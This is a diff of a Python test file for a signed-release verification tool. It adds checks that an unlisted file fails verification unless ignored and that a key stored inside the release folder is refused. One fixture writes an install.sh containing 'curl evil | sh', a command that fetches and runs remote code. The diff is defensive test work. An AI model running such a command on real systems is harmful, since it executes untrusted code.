@@ -217,14 +217,28 @@ def test_signature_is_what_openssl_verifies(release: Path, keypair):
     assert proc.returncode == 0 and "Verified OK" in proc.stdout
 
 
-def test_unlisted_file_is_shown_not_trusted(cli, release: Path, keypair):
+def test_unlisted_file_fails_unless_ignored(cli, release: Path, keypair):
     (release / "install.sh").write_text("curl evil | sh\n")
+    # the very key given with --key, shipped beside the release: covered
     (release / "release.pub").write_bytes(keypair[1].read_bytes())
     result = verify(cli, release, keypair[1])
-    assert result.code == 0, result.out
-    assert "SKIP  unlisted    install.sh: in no checksums file: not verified" in result.out
-    # signature material and keys are not release content
-    assert "release.pub" not in result.out and "unlisted    SHA256SUMS" not in result.out
+    assert result.code == 1, result.out
+    assert "UNCOVERED install.sh: listed in no verified checksums file and signed by " \
+           "nothing" in result.out
+    assert "NOT verified (9 passed, 0 failed, 1 uncovered)" in result.out
+    assert "--ignore GLOB" in result.out
+    assert "release.pub" not in result.out and result.out.count("UNCOVERED") == 1
+    ignored = verify(cli, release, keypair[1], "--ignore", "*.sh")
+    assert ignored.code == 0, ignored.out
+    assert "SKIP  ignored     install.sh: matches --ignore *.sh: not read, not verified" \
+           in ignored.out
+
+
+def test_a_key_from_inside_the_folder_is_refused(cli, release: Path, keypair):
+    (release / "release.pub").write_bytes(keypair[1].read_bytes())
+    result = verify(cli, release, release / "release.pub")
+    assert result.code == 2
+    assert "is inside the folder being verified" in result.err
 
 
 def test_sbom_attestation_is_not_build_provenance(cli, release: Path, keypair, tmp_path):
